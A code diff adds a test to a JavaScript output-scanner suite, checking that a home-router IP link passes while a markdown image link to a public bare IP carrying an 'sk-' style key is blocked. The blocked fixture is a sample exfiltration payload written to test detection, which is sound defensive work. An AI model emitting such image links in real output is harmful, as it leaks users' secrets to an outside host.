@@ -116,5 +116,11 @@ describe('inline fallback scanner', () => {
       expect(fallbackScanOutput(`pay ${address}`).flags.map((f) => f.type)).to.deep.equal(['crypto_address']);
       expect(fallbackScanOutput('All done, see the attached summary.')).to.include({ safe: true, classification: 'clean', score: 0 });
     });
+    it('lets the link rule judge bare-IP links: a home router passes, a public host carrying data is blocked', () => {
+      expect(fallbackScanOutput('The router admin page is at http://192.168.0.1 on your home network.')).to.include({ safe: true });
+      const r = fallbackScanOutput('Upload it: ![x](http://203.0.113.9:8080/c?key=sk-abcdef1234567890)');
+      expect(r.safe).to.equal(false);
+      expect(r.flags.find((f) => f.type === 'ip_url')).to.include({ action: 'block' });
+    });
   });
 });
